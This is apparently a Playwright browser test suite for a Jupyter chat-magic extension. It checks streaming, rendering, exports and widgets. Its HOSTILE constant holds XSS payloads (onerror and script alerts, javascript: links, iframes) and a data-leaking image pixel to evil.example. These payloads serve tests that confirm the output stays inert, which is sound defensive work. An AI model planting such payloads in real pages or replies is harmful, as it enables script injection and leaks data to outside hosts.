"""JupyterLab in headless Chromium with W&B's hosts simulated by the tests: what a person sees and does."""

from __future__ import annotations

import os
import re
from pathlib import Path
from threading import Event

import nbformat
import pytest
from browser import JupyterServer, Lab, Watch, keep_screenshot
from kernels import NotebookRun
from known_models import MODELS
from nbconvert import HTMLExporter
from playwright.sync_api import Page, expect
from service import Answer, Streamed, Wandb, completion, pieces, refused, usage

from wandb_inference_magic.messages.thread import Thread, Turn
from wandb_inference_magic.rendering.thread_file import export

pytestmark = pytest.mark.browser

PICTURES = Path(__file__).parent.parent.parent / "examples"

ANSWER = """\
The **median** of a sample is its middle value: half of the data lie below it.

- It is *robust*: an outlier hardly moves it.
- For an even $n$ it is \\((x_{n/2} + x_{n/2+1})/2\\) of the sorted values.

```python
df["price"].median()
```

| statistic | moved by one outlier |
|---|---|
| mean | by as much as it likes |
| median | hardly |
"""


def test_the_reply_grows_and_ends_as_one_tidy_output(server: JupyterServer, wandb_hosts: Wandb, page: Page) -> None:
    """The text grows while it streams. In the end it is rendered once, as a whole, with its footer."""
    gate = Event()
    script = Streamed(
        pieces(ANSWER), gate=gate, hold_after=12, counted=usage(31, 118), reasoning=["Simple words. ", "An example."]
    )
    wandb_hosts.api.then(script)
    lab = Lab.open(
        server,
        page,
        "streaming.ipynb",
        ["%load_ext wandb_inference_magic", "%wbmodels", "%%wbchat -t 0.2\nWhat is a median, and why use it?"],
    )
    lab.run(0)
    lab.run(1)
    expect(lab.output(1).get_by_role("combobox", name="Model")).to_be_visible()
    lab.run(2, wait=False)
    output = lab.cell(2).locator(".jp-OutputArea")
    expect(output).to_contain_text("The median of a sample is its middle value")
    assert not script.sent_last.is_set()
    gate.set()
    lab.wait_until_run(2)
    expect(lab.output(2)).to_have_count(1)
    rendered = lab.output(2)
    expect(rendered.locator("strong")).to_have_text("median")
    expect(rendered.locator("li")).to_have_count(2)
    expect(rendered.locator("table td").first).to_have_text("mean")
    expect(rendered.locator("pre")).to_contain_text('df["price"].median()')
    expect(rendered.locator("mjx-container")).to_have_count(2)
    expect(rendered).to_contain_text("31 + 118 tokens")
    expect(rendered).to_contain_text("turn 1")
    reasoning = rendered.locator("details")
    expect(reasoning).not_to_have_attribute("open", re.compile(".*"))
    reasoning.locator("summary").click()
    expect(reasoning).to_contain_text("Simple words.")
    reasoning.locator("summary").click()

    saved = lab.save()
    (saved_output,) = saved["cells"][2]["outputs"]
    assert set(saved_output["data"]) == {"text/markdown", "text/plain"}
    _take_picture(lab, "wbchat.png", first=0, last=2)


def _take_picture(lab: Lab, name: str, *, first: int, last: int) -> None:
    """Take a screenshot of some cells for the documentation on request. Otherwise only check that it can be taken."""
    target = (PICTURES if os.environ.get("WRITE_PICTURES") else lab.server.folder) / name
    page = lab.page
    page.set_viewport_size({"width": 1000, "height": 1300})
    page.keyboard.press("Control+b")
    page.locator(".jp-NotebookPanel-toolbar").click()
    box, end = lab.cell(first).bounding_box(), lab.cell(last).bounding_box()
    assert box is not None
    assert end is not None
    clip = {"x": box["x"], "y": box["y"], "width": box["width"], "height": end["y"] + end["height"] - box["y"]}
    page.screenshot(path=target, clip=clip)
    assert target.stat().st_size > 10_000


def test_formulas_are_drawn_and_prices_are_text(server: JupyterServer, wandb_hosts: Wandb, page: Page) -> None:
    wandb_hosts.api.always = Streamed(
        pieces(
            "It costs $5 and $6, or `$7` and `$8`.\n\nThe sum \\(a_1 + b_1\\) and\n\n\\[\nx\n+ y < z\n\\]\n\nis it."
        ),
        per_second=200,
    )
    lab = Lab.open(server, page, "maths.ipynb", ["%load_ext wandb_inference_magic", "%%wbchat\nhi"])
    lab.run(0)
    lab.run(1)
    rendered = lab.output(1)
    expect(rendered.locator("mjx-container")).to_have_count(2)
    expect(rendered.locator("mjx-merror")).to_have_count(0)
    expect(rendered).to_contain_text("It costs $5 and $6, or $7 and $8.")
    assert rendered.locator("ul").count() == 0


HOSTILE = (
    'Hello <img src="http://evil.example/a.png" onerror="alert(1)"> <script>alert(2)</script>\n\n'
    "![pixel](http://evil.example/b.png?data=secret) [click](javascript:alert(3)) ![ref][r]\n\n"
    "[r]: http://evil.example/c.png\n\n<iframe src='http://evil.example/d'></iframe>\n\n"
    "| a |\n|---|\n| ![x](http://evil.example/e.png) | <img src=http://evil.example/e2>\n\n"
    "```mermaid\ngraph TD; A-->B\n```\n\n</details> $x<img src=http://evil.example/f>$\n\n"
    "    <img src=http://evil.example/h>\n\n[![x](http://evil.example/i)](http://ok.example)"
)


def hostile_stream() -> Streamed:
    return Streamed(
        pieces(HOSTILE),
        per_second=100,
        reasoning=["</details><img src=http://evil.example/g>", " ```"],
        model="<img src=http://evil.example/m onerror=alert(4)>",
    )


def test_a_hostile_reply_is_inert(server: JupyterServer, wandb_hosts: Wandb, page: Page, watch: Watch) -> None:
    """In a trusted, running notebook no request goes to another host, no dialog opens and no script runs."""
    wandb_hosts.api.always = hostile_stream()
    cells = ["%load_ext wandb_inference_magic", "%%wbchat\nhi", "%%wbchat --format html\nhi", "%wbchat this fails"]
    lab = Lab.open(server, page, "hostile.ipynb", cells)
    lab.run(0)
    lab.run(1)
    lab.run(2)
    wandb_hosts.api.then(refused(400, HOSTILE))
    lab.run(3)
    for number in (1, 2):
        rendered = lab.output(number)
        expect(rendered).to_contain_text("Hello <img src=")
        expect(rendered).to_contain_text("image: pixel (evil.example)")
        assert rendered.locator("img, script, iframe").count() == 0
        assert rendered.locator("a[href^='javascript']").count() == 0
        # The footer is outside anything that the reply could open.
        expect(rendered.locator("small").last).to_contain_text("tokens")
        assert rendered.locator("details small").count() == 0
    expect(lab.output(3)).to_contain_text("did not accept the request")
    assert lab.output(3).locator("img, script, iframe").count() == 0
    watch.assert_nothing()


def test_a_hostile_reply_is_inert_in_an_exported_page(
    wandb_hosts: Wandb, new_page: Page, environment: dict[str, str], tmp_path: Path
) -> None:
    """The page of nbconvert is rendered by another Markdown parser, without sanitizing."""
    wandb_hosts.api.always = hostile_stream()
    sources = ["%load_ext wandb_inference_magic", "%%wbchat\nhi", "%%wbchat --format html\nhi", "%wbmodels --table"]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in sources])
    NotebookRun(notebook, timeout=120, resources={"metadata": {"path": str(tmp_path)}}).execute(
        env=environment | wandb_hosts.environment | {"WANDB_API_KEY": "a-key"}
    )
    html, _ = HTMLExporter().from_notebook_node(notebook)
    exported = tmp_path / "exported.html"
    exported.write_text(html, encoding="utf-8")
    watch = Watch(new_page)
    new_page.goto(exported.as_uri(), wait_until="domcontentloaded")
    outputs = new_page.locator(".jp-OutputArea-output")
    expect(outputs.first).to_contain_text("Hello <img src=")
    assert outputs.locator("img, script, iframe").count() == 0
    assert outputs.locator("a[href^='javascript']").count() == 0
    watch.assert_nothing()


def test_a_conversation_exported_as_a_page_sends_no_request(new_page: Page, tmp_path: Path) -> None:
    hostile = Turn(HOSTILE, HOSTILE, system=HOSTILE)
    plain = Turn("What is a median?", ANSWER)
    file = export(Thread("<b>talk</b>", [hostile, plain], system=HOSTILE), str(tmp_path / "talk.html"))
    watch = Watch(new_page)
    new_page.goto(file.as_uri())
    assert [url for url in watch.requests if not url.startswith("file:")] == []
    watch.assert_nothing()
    expect(new_page.locator("h1")).to_have_text("<b>talk</b>")
    assert new_page.locator("img, script, iframe").count() == 0
    assert new_page.locator("a[href^='javascript']").count() == 0
    expect(new_page.locator("blockquote").last).to_have_text("What is a median?")
    reply = new_page.locator("main")
    expect(reply.locator("strong").filter(has_text="median")).to_have_count(1)
    expect(reply.locator("pre").last).to_contain_text('df["price"].median()')
    expect(reply.locator("td").filter(has_text="mean")).to_have_count(1)
    # Formulas are drawn without a script, in the size of the text.
    expect(reply.locator("math")).to_have_count(2)
    box = reply.locator("msub").first.bounding_box()
    assert box is not None
    assert 8 < box["height"] < 40
    keep_screenshot(new_page, "thread-page")


def test_a_printed_conversation_shows_what_is_wide_or_folded(new_page: Page, tmp_path: Path) -> None:
    numbers = range(25)
    row = " | ".join(f"value_{number}" for number in numbers)
    table = f"| {row} |\n|{'---|' * len(numbers)}\n| {row} |"
    lines = "\n".join(f"line {number}" for number in range(120))
    turn = Turn(f"Explain:\n\n```text\n{lines}\n```", f"{table}\n\n```text\n{'x' * 400}\n```")
    file = export(Thread("talk", [turn]), str(tmp_path / "talk.html"))
    new_page.set_viewport_size({"width": 700, "height": 900})
    new_page.emulate_media(media="print")
    new_page.goto(file.as_uri())
    hidden = """() => [...document.querySelectorAll('pre, table, main')]
        .filter(one => one.scrollWidth > one.clientWidth + 1 || one.getBoundingClientRect().right > innerWidth + 1)
        .map(one => one.tagName)"""
    assert new_page.evaluate(hidden) == []
    expect(new_page.locator("details pre")).to_contain_text("line 119")
    expect(new_page.locator("details pre")).to_be_visible()
    box = new_page.locator("details pre").bounding_box()
    assert box is not None
    assert box["height"] > 120 * 10


def test_several_models_are_shown_side_by_side(server: JupyterServer, wandb_hosts: Wandb, page: Page) -> None:
    """Columns of the same height at the same position, each rendered as a separate reply."""

    def answer(one: Answer) -> None:
        is_first = one.received.body["model"] == MODELS[0]
        reply_pieces = pieces(ANSWER if is_first else "It is the *middle* one.")
        Streamed(reply_pieces, per_second=60 if is_first else 20, counted=usage(31, 118 if is_first else 9))(one)

    wandb_hosts.api.always = answer
    lab = Lab.open(
        server,
        page,
        "columns.ipynb",
        ["%load_ext wandb_inference_magic", f"%%wbchat -m {MODELS[0]} -m {MODELS[1]}\nWhat is a median?"],
    )
    lab.run(0)
    lab.run(1)
    # The replies and their chart.
    expect(lab.output(1)).to_have_count(2)
    expect(lab.output(1).nth(1).get_by_role("cell", name=MODELS[0])).to_be_visible()
    columns = lab.output(1).first.locator("td[valign=top]")
    expect(columns).to_have_count(2)
    expect(columns.nth(0).locator("pre")).to_contain_text('df["price"].median()')
    expect(columns.nth(0).locator("mjx-container")).not_to_have_count(0)
    expect(columns.nth(1).locator("em")).to_have_text("middle")
    left, right = (columns.nth(number).bounding_box() for number in (0, 1))
    assert left is not None
    assert right is not None
    assert abs(left["y"] - right["y"]) < 2
    assert left["x"] + left["width"] <= right["x"] + 2
    box = columns.nth(1).locator("em").bounding_box()
    assert box is not None
    assert box["y"] - right["y"] < 40, "a short reply starts at the top"
    _take_picture(lab, "compare.png", first=1, last=1)


def test_code_is_inserted_into_the_next_cell_and_not_run(
    server: JupyterServer, wandb_hosts: Wandb, page: Page, path: str
) -> None:
    wandb_hosts.api.always = Streamed(["So:\n\n```python\nmedian = 3\n```\n"])
    lab = Lab.open(
        server,
        page,
        f"code-{path[:3]}.ipynb",
        ["%load_ext wandb_inference_magic", "%%wbchat --code\nA median, please.", "1 + 1"],
        path=path,
    )
    lab.run(0)
    lab.run(1)
    expect(page.locator(".jp-Notebook .jp-Cell")).to_have_count(4)
    expect(lab.cell(2).locator(".cm-content")).to_have_text("median = 3")
    expect(lab.cell(2).locator(".jp-InputPrompt")).to_have_text("[ ]:")
    expect(lab.cell(3).locator(".cm-content")).to_have_text("1 + 1")


def test_the_tab_key_completes_an_option_and_a_model(
    server: JupyterServer, wandb_hosts: Wandb, page: Page, path: str
) -> None:
    cells = ["%load_ext wandb_inference_magic\n%wbmodels --table", "%%wbchat"]
    lab = Lab.open(server, page, f"tab-{path[:3]}.ipynb", cells, path=path)
    lab.run(0)
    editor = lab.cell(1).locator(".cm-content")
    editor.click()
    page.keyboard.press("End")
    line = "%%wbchat"
    for typed, offered in ((" --temperat", "--temperature"), (" 0 -m glm", MODELS[3])):
        page.keyboard.type(typed)
        # Before that the key indents.
        expect(lab.cell(1).locator(".jp-mod-completer-enabled")).not_to_have_count(0)
        page.keyboard.press("Tab")
        expect(page.locator(".jp-Completer-item")).to_contain_text(offered)
        page.keyboard.press("Enter")
        line = f"{(line + typed).rpartition(' ')[0]} {offered}"
        expect(editor).to_have_text(line)


BUTTON = """\
import ipywidgets
button, output = ipywidgets.Button(description='Ask'), ipywidgets.Output()
@output.capture()
def clicked(button):
    print('Asking')
    get_ipython().run_line_magic('wbchat', '--once -m openai/gpt-oss-20b Hi')
button.on_click(clicked)
ipywidgets.VBox([button, output])"""


def test_a_button_of_the_user_chats_into_an_output_widget(
    server: JupyterServer, wandb_hosts: Wandb, page: Page, path: str
) -> None:
    gate = Event()
    first = Streamed(["# First\n\n", "Some **words**", " and the rest."], gate=gate, hold_after=2)
    wandb_hosts.api.then(first, Streamed(["The second", " reply."]))
    lab = Lab.open(server, page, f"button-{path[:3]}.ipynb", ["%load_ext wandb_inference_magic", BUTTON], path=path)
    lab.run(0)
    lab.run(1)
    shown = lab.output(1).first
    ask = shown.get_by_role("button", name="Ask")
    ask.click()
    expect(shown.locator("strong")).to_have_text("words")
    gate.set()
    expect(shown).to_contain_text("Some words and the rest.")
    expect(shown).to_contain_text("12 + 3 tokens")
    ask.click()
    expect(shown).to_contain_text("The second reply.")
    expect(shown.get_by_text("12 + 3 tokens")).to_have_count(2)
    expect(shown.get_by_text("Asking")).to_have_count(2)
    expect(shown.locator("h1")).to_have_count(1)


def test_a_map_shows_progress_and_ends_as_one_tidy_output(
    server: JupyterServer, wandb_hosts: Wandb, page: Page, path: str
) -> None:
    gate = Event()

    def answer(one: Answer) -> None:
        number = int(one.received.body["messages"][-1]["content"].split()[1])
        if number >= 30:
            assert gate.wait(120)
        completion(f"Answer {number} with $5 and $6, <b>not bold</b>.", counted=usage(40, 12))(one)

    wandb_hosts.api.always = answer
    cells = ["%load_ext wandb_inference_magic\nrows = list(range(60))", "%%wbmap rows --no-cache\nrow {{ text }}"]
    lab = Lab.open(server, page, f"map-{path[:3]}.ipynb", cells, path=path)
    lab.run(0)
    lab.run(1, wait=False)
    area = lab.cell(1).locator(".jp-OutputArea")
    expect(area.get_by_text("30/60")).to_be_visible()
    # Three of the first thirty, whichever came first.
    expect(area).to_contain_text(re.compile(r"Answer \d+ with \$5 and \$6, <b>not bold</b>\."))
    keep_screenshot(page, f"map-{path[:3]}-running")
    gate.set()
    lab.wait_until_run(1)
    expect(lab.output(1)).to_have_count(1)
    expect(lab.output(1)).to_contain_text("60 of 60 rows answered, in _wbmap · 2,400 + 720 tokens")
    expect(lab.output(1).locator("mjx-container")).to_have_count(0)
    expect(area.get_by_text("/60 [")).to_have_count(0)
    keep_screenshot(page, f"map-{path[:3]}-done")
